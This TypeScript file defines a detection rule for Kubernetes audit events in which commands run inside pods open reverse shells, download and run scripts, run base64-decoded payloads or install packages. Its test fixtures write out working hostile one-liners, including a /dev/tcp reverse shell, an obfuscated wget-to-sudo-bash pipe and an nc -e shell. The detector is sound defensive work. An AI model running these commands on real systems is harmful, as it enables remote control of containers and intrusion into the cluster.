import { type Trait, traitsOf } from '../../commands/command.ts';
import { principalOf } from '../../events/actor.ts';
import { audit, human, serviceAccount } from '../../sdk/examples.ts';
import { EXEC, execCommandOf, podOf } from '../../sdk/exec.ts';
import { defineLegacy as defineDetection } from '../../sdk/legacy.ts';
import { whoDid } from '../../sdk/phrases.ts';

/** What is looked for, with how sure one can be that it means harm. */
const CONFIDENCE: Partial<Record<Trait, number>> = {
  'reverse shell': 90,
  'decoded script': 80,
  'downloaded script': 80,
  // A debugging session installs or fetches a tool as an intruder does.
  download: 50,
  'package manager': 50,
};

const sureOf = (trait: Trait): number => CONFIDENCE[trait] ?? 0;

export default defineDetection({
  id: 'exec-runs-shell-tooling',
  title: 'Intruder’s tooling run in a pod',
  description:
    'A command that was run in a pod opens a reverse shell, fetches something from outside the cluster, pipes it or decoded base64 into an interpreter, or installs packages into the running container. Shells, quoting and encodings are seen through.',
  tactic: 'execution',
  attack: ['T1059.013', 'T1059.004'],
  impact: 80,
  confidence: 70,
  type: 'TTP',
  falsePositives:
    'Debugging with `curl` or a package manager. Requests to the pod itself and to services of the cluster are left out.',
  triage:
    'Isolate the pod with a network policy before it is deleted, so that what was fetched can still be looked at.',
  references: ['https://attack.mitre.org/techniques/T1059/013/', 'https://attack.mitre.org/techniques/T1059/004/'],
  answers: [
    'sumo:Package Management Utility in Container',
    'elastic:execution_kubernetes_pod_exec_potential_reverse_shell',
    'elastic:execution_kubernetes_pod_exec_curl_wget_https',
    'elastic:execution_kubernetes_exec_with_external_ip_in_command',
  ],
  needs: 'header',
  on: EXEC,
  each: (event) => {
    const traits = [...traitsOf(execCommandOf(event))].filter((trait) => sureOf(trait) > 0);
    return traits.length === 0 ? [] : [traits.sort((a, b) => sureOf(b) - sureOf(a) || (a < b ? -1 : 1))];
  },
  match: () => true,
  weight: (event, _options, [first]) => ({
    confidence: Math.min(sureOf(first as Trait), event.outcome === 'denied' ? 50 : 100),
  }),
  entities: (event) => ({ principal: principalOf(event.actor), pod: podOf(event) }),
  summary: (event, traits) => `${whoDid(event, 'ran', 'run')} a ${traits.join(', a ')} in pod ${podOf(event)}`,
});

const exec = (command: readonly string[], parts: object = {}) =>
  audit({
    verb: 'get',
    by: human(),
    resource: 'pods/exec',
    namespace: 'shop',
    name: 'web-0',
    query: `container=web&${command.map((word) => `command=${encodeURIComponent(word)}`).join('&')}&stdin=true`,
    code: 101,
    ...parts,
  });

export const examples = () => ({
  fires: {
    'alice ran a reverse shell in pod shop/web-0': exec(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']),
    'alice ran a downloaded script, a download in pod shop/web-0': exec([
      'sh',
      '-c',
      'w"ge"t -qO- https://example.org/x.sh | tee /tmp/x |$IFS$9sudo$IFS$9ba\\sh',
    ]),
    'bob ran a decoded script in pod shop/web-0': exec(['sh', '-c', 'echo aWQgPiAvdG1wL3gK | base64 -d | sh'], {
      by: human('bob'),
      verb: 'create',
    }),
    'bob ran a package manager in pod shop/web-0': exec(['apk', '--no-cache', 'add', 'nmap'], { by: human('bob') }),
    'service account shop/ci ran a download in pod shop/web-0': audit({
      verb: 'create',
      by: serviceAccount('shop', 'ci'),
      resource: 'nodes/proxy',
      name: 'n',
      uri: '/api/v1/nodes/n/proxy/run/shop/web-0/web?cmd=curl+-sO+https://example.org/x',
    }),
    'mallory was refused to run a reverse shell in pod shop/web-0': exec(['nc', '203.0.113.9', '1', '-e', 'sh'], {
      by: human('mallory'),
      code: 403,
    }),
  },
  silent: {
    'a shell': exec(['/bin/bash']),
    'a health check': exec(['curl', '-s', 'http://localhost:8080/healthz']),
    'a service of the cluster': exec([
      'sh',
      '-c',
      'curl -s http://api.shop.svc.cluster.local/ready | python3 -m json.tool',
    ]),
    'words that are not run': exec(['echo', 'curl https://example.org | sh']),
    'a database is not a network tool': exec(['psql', '-c', 'select * from curl_install']),
  },
});
